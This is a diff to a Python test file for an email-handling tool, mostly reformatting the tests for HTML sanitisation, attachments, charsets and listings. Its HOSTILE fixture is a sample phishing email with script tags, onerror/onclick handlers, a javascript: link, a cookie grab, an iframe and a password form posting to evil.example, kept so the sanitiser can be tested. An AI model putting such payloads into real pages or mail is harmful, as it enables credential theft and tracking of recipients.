@@ -39,7 +39,7 @@ LATIN1 = EML / "rfc" / "000.eml"  # RFC 2046's example: ISO-8859-1 part, names, 
 HOSTILE = (
     b"From: =?utf-8?q?M=C3=A9chant_Sender?= <evil@attacker.example>\r\n"
     b"To: Support Team <support@centre.example>, plain@centre.example\r\n"
-    b"Cc: \"Doe, Jane\" <jane@centre.example>\r\n"
+    b'Cc: "Doe, Jane" <jane@centre.example>\r\n'
     b"Reply-To: Replies <replies@attacker.example>\r\n"
     b"Subject: click me\r\n"
     b"Date: Tue, 01 Dec 2026 09:30:00 +0100\r\n"
@@ -49,14 +49,14 @@ HOSTILE = (
     b"\r\n"
     b"<html><head><style>body{background:url(https://track.example/s.gif)}</style>"
     b"<script>alert('head')</script></head><body>"
-    b"<p onclick=\"steal()\">Hello <b>agent</b></p>"
-    b"<img src=\"https://track.example/pixel.gif\" alt=\"pixel\" onerror=\"steal()\">"
-    b"<img src=\"cid:logo@attacker.example\" alt=\"logo\">"
-    b"<a href=\"javascript:steal()\">free money</a> "
-    b"<a href=\"https://ok.example/help\">help</a>"
-    b"<script>document.cookie</script><iframe src=\"https://evil.example/\"></iframe>"
-    b"<form action=\"https://evil.example/\"><input name=\"pw\"></form>"
-    b"<div style=\"position:fixed\">styled</div>"
+    b'<p onclick="steal()">Hello <b>agent</b></p>'
+    b'<img src="https://track.example/pixel.gif" alt="pixel" onerror="steal()">'
+    b'<img src="cid:logo@attacker.example" alt="logo">'
+    b'<a href="javascript:steal()">free money</a> '
+    b'<a href="https://ok.example/help">help</a>'
+    b'<script>document.cookie</script><iframe src="https://evil.example/"></iframe>'
+    b'<form action="https://evil.example/"><input name="pw"></form>'
+    b'<div style="position:fixed">styled</div>'
     b"</body></html>\r\n"
 )
 
@@ -117,7 +117,7 @@ def test_an_html_only_mail_reads_with_text_sanitised_html_and_its_image(
     assert headers["content-type"] == "image/png"
     assert headers["x-content-type-options"] == "nosniff"
     assert headers["content-disposition"] == (
-        'attachment; filename="kigaaldcbanejcbi.png"; filename*=UTF-8\'\'kigaaldcbanejcbi.png'
+        "attachment; filename=\"kigaaldcbanejcbi.png\"; filename*=UTF-8''kigaaldcbanejcbi.png"
     )
     code, headers, body = download(api, f"/interactions/{made.id}/raw")
     assert code == 200 and body == raw
@@ -161,14 +161,17 @@ def test_a_legacy_charset_mail_reads_decoded_with_its_files_byte_for_byte(
         assert "Search for höhö" in shown["html"]
     else:
         assert shown["addresses"]["from"] == {
-            "address": "nsb@nsb.fv.com", "name": "Nathaniel Borenstein"
+            "address": "nsb@nsb.fv.com",
+            "name": "Nathaniel Borenstein",
         }
         assert shown["addresses"]["to"] == [{"address": "ned@innosoft.com", "name": "Ned Freed"}]
         assert shown["date"] == "1994-10-07T16:15:05-07:00"
     files = [a for a in shown["attachments"] if a["content_type"] != "message/rfc822"]
     assert files
     for listed in files:
-        code, headers, body = download(api, f"/interactions/{made.id}/attachments/{listed['index']}")
+        code, headers, body = download(
+            api, f"/interactions/{made.id}/attachments/{listed['index']}"
+        )
         assert code == 200
         assert body == part_at(raw, made.attachments[listed["index"]].part_path)
         assert len(body) == listed["size"] > 0
@@ -255,9 +258,7 @@ def test_listing_over_http_filters_pages_and_refuses_bad_options(
     listed = [r["id"] for r in body["interactions"] + rest["interactions"]]
     assert len(listed) == len(set(listed)) == 4
     found = api.get(f"/interactions?text={quote('HÄHÄ')}")[1]["interactions"]
-    assert [r["subject"] for r in found] == [
-        "30 plaintext + (HTML + embedded image) + attachment"
-    ]
+    assert [r["subject"] for r in found] == ["30 plaintext + (HTML + embedded image) + attachment"]
     found = api.get("/interactions?sender=NSB@nsb.fv.com")[1]["interactions"]
     assert [r["from"] for r in found] == ["nsb@nsb.fv.com"]
     assert api.get("/interactions?since=2030-01-01")[1]["interactions"] == []
@@ -278,7 +279,9 @@ def test_listing_over_http_filters_pages_and_refuses_bad_options(
 
 
 def raw_postroom(*args: str) -> subprocess.CompletedProcess[bytes]:
-    return subprocess.run([POSTROOM, *args], capture_output=True, timeout=600, stdin=subprocess.DEVNULL)
+    return subprocess.run(
+        [POSTROOM, *args], capture_output=True, timeout=600, stdin=subprocess.DEVNULL
+    )
 
 
 def test_the_cli_reads_what_http_reads(quickstart: Path, tmp_path: Path) -> None:
@@ -318,7 +321,9 @@ def test_the_cli_reads_what_http_reads(quickstart: Path, tmp_path: Path) -> None
     assert detail["addresses"]["reply_to"][0]["name"] == "Shapelib Development"
 
     out = tmp_path / "image.png"
-    got = postroom("interactions", "attachment", "-c", site, html_only["id"][:6], "0", "-o", str(out))
+    got = postroom(
+        "interactions", "attachment", "-c", site, html_only["id"][:6], "0", "-o", str(out)
+    )
     assert got.returncode == 0, got.stderr
     assert out.read_bytes() == part_at(HTML_ONLY.read_bytes(), "2")
     piped = raw_postroom("interactions", "attachment", "-c", site, html_only["id"], "0")
